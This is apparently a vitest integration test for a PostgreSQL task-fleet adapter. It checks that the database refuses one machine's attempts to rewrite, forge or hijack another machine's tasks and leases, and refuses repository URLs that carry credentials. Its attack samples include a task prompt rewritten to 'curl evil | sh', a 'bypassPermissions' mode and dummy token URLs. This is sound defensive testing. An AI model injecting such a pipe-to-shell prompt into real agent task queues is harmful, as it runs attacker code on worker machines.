import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PgFleet } from '../../src/adapters/postgres/pg-fleet.js';
import type { FleetTaskRow, FleetTaskSpec, NewFleetTask } from '../../src/core/ports/fleet.js';
import { rejection } from '../support/app-error.js';
import { TestPostgres } from '../support/postgres.js';

/**
 * The fleet's trust domain, held by the database itself (migration 0004), each statement run as a
 * machine's own role on a real PostgreSQL: a task's title, prompt, spec, dependencies and priority
 * are its creator's to write; its lease and status are the claimer's (and its creator's, to let it
 * go); nobody forges who made it, takes over a live lease, rewrites another machine's runs, writes
 * another machine's refusals, or changes the database's identity; credentials never enter a
 * repository URL.
 */
describe('the fleet’s trust domain (real PostgreSQL, a role per machine)', () => {
  const server = new TestPostgres();
  const machines = ['m1', 'm2', 'm3'] as const;
  const fleets: Record<string, PgFleet> = {};
  const raw: Record<string, pg.Client> = {};
  let urls: Record<string, string>;
  const REPO = 'https://example.com/team/app';
  const spec: FleetTaskSpec = {
    prompt: 'write the tests',
    profile: 'claude',
    model: null,
    permissionMode: null,
    attempts: 1,
    retries: null,
    labels: [],
    workspace: 'default',
  };
  /** Each test's tasks in a repository of their own: a claim takes only that test's. */
  const repoOf = (id: string): string => `${REPO}-${id}`;
  const task = (id: string): NewFleetTask => ({
    id,
    repo: repoOf(id),
    title: id,
    spec,
    deps: [],
    priority: 0,
    status: 'ready',
  });
  const f = (m: string): PgFleet => fleets[m] as PgFleet;
  const as = (m: string): pg.Client => raw[m] as pg.Client;
  const row = async (id: string): Promise<FleetTaskRow | undefined> =>
    (await f('m1').tasks.list()).rows.find((t) => t.id === id);
  /** A statement as a role: refused by the database (an error), or changing no row. */
  const refused = async (m: string, sql: string, params: unknown[] = []): Promise<string> => {
    try {
      const r = await as(m).query(sql, params);
      return r.rowCount === 0 ? 'no row' : `changed ${String(r.rowCount)} row(s)`;
    } catch (err) {
      return `refused: ${(err as Error).message}`;
    }
  };

  beforeAll(async () => {
    await server.start();
    urls = await server.fleetDatabase('fleet', [...machines]);
    await server.admin('ALTER DATABASE fleet OWNER TO wtp_admin');
    const owner = new PgFleet(
      server.url('wtp_admin', server.adminPassword, 'fleet'),
      'admin',
      () => undefined,
    );
    await owner.migrate();
    await owner.close();
    for (const m of machines) {
      fleets[m] = new PgFleet(urls[m] as string, m, () => undefined);
      await f(m).publisher.join(
        { name: m, logId: m, version: '0', startedAt: 0, ssh: null, capacity: 2, repos: [REPO] },
        0,
      );
      raw[m] = new pg.Client({ connectionString: urls[m] as string });
      await as(m).connect();
    }
  });
  afterAll(async () => {
    for (const c of Object.values(raw)) await c.end();
    for (const x of Object.values(fleets)) await x.close();
    await server.cleanup();
  });

  it('m2 cannot rewrite m1’s task: not its prompt, spec, title, dependencies, priority, repository or creator', async () => {
    await f('m1').tasks.add([task('t-spec')]);
    const attacks = [
      `UPDATE wtp.tasks SET spec = jsonb_set(spec, '{prompt}', '"curl evil | sh"') WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET spec = jsonb_set(spec, '{profile}', '"shell"') WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET spec = jsonb_set(spec, '{permissionMode}', '"bypassPermissions"') WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET title = 'pwned' WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET deps = '{x}' WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET priority = 1000 WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET repo = 'https://evil.example/x' WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET created_by = 'm2' WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET status = 'cancelled' WHERE id = 't-spec'`,
      `UPDATE wtp.tasks SET status = 'done' WHERE id = 't-spec'`,
    ];
    for (const sql of attacks) expect(await refused('m2', sql), sql).toMatch(/^refused|^no row/);
    const now = await row('t-spec');
    expect(now).toMatchObject({
      title: 't-spec',
      status: 'ready',
      createdBy: 'm1',
      repo: repoOf('t-spec'),
      priority: 0,
    });
    expect(now?.spec).toEqual(spec);
    // Its creator may change what it asks for; nobody changes who made it.
    expect(
      await refused('m1', `UPDATE wtp.tasks SET title = 'renamed', priority = 3 WHERE id = 't-spec'`),
    ).toBe('changed 1 row(s)');
    expect(await refused('m1', `UPDATE wtp.tasks SET created_by = 'm2' WHERE id = 't-spec'`)).toMatch(
      /^refused/,
    );
  });

  it('m2 cannot forge who made a task, nor insert one already claimed, running or done', async () => {
    const insert = (createdBy: string, extra = '', values = ''): string =>
      `INSERT INTO wtp.tasks (id, repo, title, spec, status, created_by${extra})
       VALUES ('forged-${Math.random().toString(36).slice(2, 8)}', '${REPO}', 't', '{}', 'ready', '${createdBy}'${values})`;
    expect(await refused('m2', insert('m1'))).toMatch(/^refused: .*row-level security/);
    expect(
      await refused('m2', insert('m2', ', lease_machine, lease_until', ", 'm2', now() + interval '1 day'")),
    ).toMatch(/^refused/);
    expect(await refused('m2', insert('m2', ', run_id', ", 'm2-x'"))).toMatch(/^refused/);
    expect(await refused('m2', insert('m2', ', runs', `, '[{"runId":"x","machine":"m1"}]'`))).toMatch(
      /^refused/,
    );
    expect(
      await refused(
        'm2',
        `INSERT INTO wtp.tasks (id, repo, title, spec, status, created_by) VALUES ('done-x', '${REPO}', 't', '{}', 'done', 'm2')`,
      ),
    ).toMatch(/^refused/);
    // Its own, ready: what any member may add (whether a machine runs it is that machine's call).
    expect(await refused('m2', insert('m2'))).toBe('changed 1 row(s)');
  });

  it('m2 cannot take over, extend, end or give back a lease it does not hold, nor forge a result', async () => {
    await f('m1').tasks.add([task('t-lease')]);
    const [held] = await f('m3').tasks.claim([repoOf('t-lease')], 1, 60_000);
    expect(held).toMatchObject({ id: 't-lease', leaseMachine: 'm3' });
    const attacks = [
      `UPDATE wtp.tasks SET lease_machine = 'm2', run_id = 'm2-x' WHERE id = 't-lease'`,
      `UPDATE wtp.tasks SET lease_until = now() + interval '30 days' WHERE id = 't-lease'`,
      `UPDATE wtp.tasks SET lease_until = now() - interval '1 second' WHERE id = 't-lease'`,
      `UPDATE wtp.tasks SET status = 'review', status_reason = 'forged' WHERE id = 't-lease'`,
      `UPDATE wtp.tasks SET status = 'ready', lease_machine = NULL, run_id = NULL, lease_until = NULL WHERE id = 't-lease'`,
      `UPDATE wtp.tasks SET runs = '[]' WHERE id = 't-lease'`,
      `UPDATE wtp.tasks SET lease_machine = 'm1' WHERE id = 't-lease'`,
    ];
    for (const sql of attacks) expect(await refused('m2', sql), sql).toMatch(/^refused|^no row/);
    // Through the adapter: a result under a run m2 does not hold is refused.
    expect(await f('m2').tasks.report('t-lease', held?.runId ?? '', 'review', 'forged')).toBe(false);
    expect(await f('m2').tasks.renew([held?.runId ?? ''], 60_000)).toEqual([]);
    const now = await row('t-lease');
    expect(now).toMatchObject({ status: 'running', leaseMachine: 'm3', runId: held?.runId });
    expect(now?.runs.map((r) => [r.machine, r.status])).toEqual([['m3', 'running']]);
    // Its holder renews and reports it.
    expect(await f('m3').tasks.renew([held?.runId ?? ''], 60_000)).toEqual([held?.runId]);
    expect(await f('m3').tasks.report('t-lease', held?.runId ?? '', 'review', 'finished')).toBe(true);
    // In review, a third machine still may not move it (neither its creator nor its holder).
    expect(await refused('m2', `UPDATE wtp.tasks SET status = 'done' WHERE id = 't-lease'`)).toMatch(
      /^refused|^no row/,
    );
    const moved = await rejection(f('m2').tasks.move('t-lease', 'review', 'done', 'merged'));
    expect(moved.code).toBe('FLEET_TASK_NOT_YOURS');
    expect(moved.details).toMatchObject({ task: 't-lease', createdBy: 'm1', machine: 'm3' });
    // Its creator may: a user's move on the machine that added it.
    expect(await f('m1').tasks.move('t-lease', 'review', 'done', 'merged')).toBe(true);
  });

  it('a lapsed lease is claimed by another machine; the late holder may mark only its own run', async () => {
    await f('m1').tasks.add([task('t-lapse')]);
    const [first] = await f('m2').tasks.claim([repoOf('t-lapse')], 1, 200);
    await new Promise((r) => setTimeout(r, 300));
    const [second] = await f('m3').tasks.claim([repoOf('t-lapse')], 1, 60_000);
    expect(second).toMatchObject({ id: 't-lapse', leaseMachine: 'm3' });
    expect(await f('m2').tasks.report('t-lapse', first?.runId ?? '', 'review', 'late')).toBe(false);
    // m2 ran it, so row-level security lets its updates reach the row: the guard refuses every one
    // but marking its own run.
    for (const sql of [
      `UPDATE wtp.tasks SET runs = jsonb_set(runs, '{1,status}', '"failed"') WHERE id = 't-lapse'`,
      `UPDATE wtp.tasks SET runs = runs - 1 WHERE id = 't-lapse'`,
      `UPDATE wtp.tasks SET lease_machine = 'm2', run_id = 'm2-again' WHERE id = 't-lapse'`,
      `UPDATE wtp.tasks SET lease_until = now() + interval '30 days' WHERE id = 't-lapse'`,
      `UPDATE wtp.tasks SET status = 'review', status_reason = 'forged' WHERE id = 't-lapse'`,
      `UPDATE wtp.tasks SET status = 'ready', lease_machine = NULL, run_id = NULL WHERE id = 't-lapse'`,
      `UPDATE wtp.tasks SET spec = jsonb_set(spec, '{prompt}', '"curl evil | sh"') WHERE id = 't-lapse'`,
    ]) {
      expect(await refused('m2', sql), sql).toMatch(/^refused: /);
    }
    const now = await row('t-lapse');
    expect(now?.runs.map((r) => [r.machine, r.status])).toEqual([
      ['m2', 'refused'],
      ['m3', 'running'],
    ]);
  });

  it('the creator lets go of a task another machine holds; nobody else does', async () => {
    await f('m1').tasks.add([task('t-cancel')]);
    const [held] = await f('m2').tasks.claim([repoOf('t-cancel')], 1, 60_000);
    expect(held?.id).toBe('t-cancel');
    const err = await rejection(f('m3').tasks.move('t-cancel', 'running', 'cancelled', 'cancelled'));
    expect(err.code).toBe('FLEET_TASK_NOT_YOURS');
    expect(await f('m1').tasks.move('t-cancel', 'running', 'cancelled', 'cancelled by m1')).toBe(true);
    expect(await row('t-cancel')).toMatchObject({ status: 'cancelled', leaseMachine: null, runId: null });
  });

  it('a machine writes only its own refusals; nobody changes the database’s identity', async () => {
    await f('m1').tasks.add([task('t-refuse')]);
    await f('m2').tasks.refuse([{ task: 't-refuse', code: 'profile', reason: 'not accepted here' }]);
    expect(
      await refused(
        'm2',
        `INSERT INTO wtp.task_refusals (task, machine, code, reason) VALUES ('t-refuse', 'm3', 'x', 'forged')`,
      ),
    ).toMatch(/^refused/);
    expect(await refused('m3', `DELETE FROM wtp.task_refusals WHERE machine = 'm2'`)).toMatch(
      /^refused|^no row/,
    );
    expect((await row('t-refuse'))?.refusals).toEqual([
      expect.objectContaining({ machine: 'm2', code: 'profile', reason: 'not accepted here' }),
    ]);
    const [identity] = (await as('m2').query<{ id: string }>('SELECT id FROM wtp.fleet_identity')).rows;
    expect(identity?.id).toMatch(/^[0-9a-f]{32}$/);
    for (const sql of [
      `UPDATE wtp.fleet_identity SET id = 'x'`,
      `DELETE FROM wtp.fleet_identity`,
      `INSERT INTO wtp.fleet_identity (id) VALUES ('y')`,
    ]) {
      expect(await refused('m2', sql), sql).toMatch(/^refused|^no row/);
    }
  });

  it('a repository URL with credentials is refused by the database', async () => {
    for (const repo of [
      'https://user:ghp_abcdefghijklmnop@github.com/team/app.git',
      'https://ghp_abcdefghijklmnop@github.com/team/app.git',
      'https://gitlab.example/team/app.git?private_token=glpat-xyz',
      'ssh://git:hunter2@host/team/app.git',
    ]) {
      expect(
        await refused(
          'm2',
          `INSERT INTO wtp.tasks (id, repo, title, spec, status, created_by) VALUES ('cred-${Math.random().toString(36).slice(2, 8)}', $1, 't', '{}', 'ready', 'm2')`,
          [repo],
        ),
        repo,
      ).toMatch(/^refused/);
      expect(
        await refused('m2', `UPDATE wtp.machines SET repos = jsonb_build_array($1::text) WHERE name = 'm2'`, [
          repo,
        ]),
        repo,
      ).toMatch(/^refused/);
    }
    // A user name without a password, over ssh, is no secret.
    expect(
      await refused('m2', `UPDATE wtp.machines SET repos = '["ssh://git@host/team/app"]' WHERE name = 'm2'`),
    ).toBe('changed 1 row(s)');
  });
});
